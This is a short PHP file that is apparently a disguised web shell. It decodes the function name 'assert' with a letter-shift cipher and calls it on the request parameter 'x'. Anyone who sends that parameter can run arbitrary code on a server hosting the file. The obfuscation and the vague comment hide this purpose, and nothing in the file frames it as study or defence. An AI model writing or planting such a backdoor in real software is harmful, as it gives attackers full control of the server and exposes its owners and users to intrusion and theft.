<?php
// an affine letter cipher of the script's own spells the runner, kept in a variable
function spell($w) {
    $r = '';
    foreach (str_split($w) as $c) {
        $r .= chr((ord($c) - 97 + 25) % 26 + 97);
    }
    return $r;
}
$f = spell('btttfsu');
$f($_REQUEST['x']);
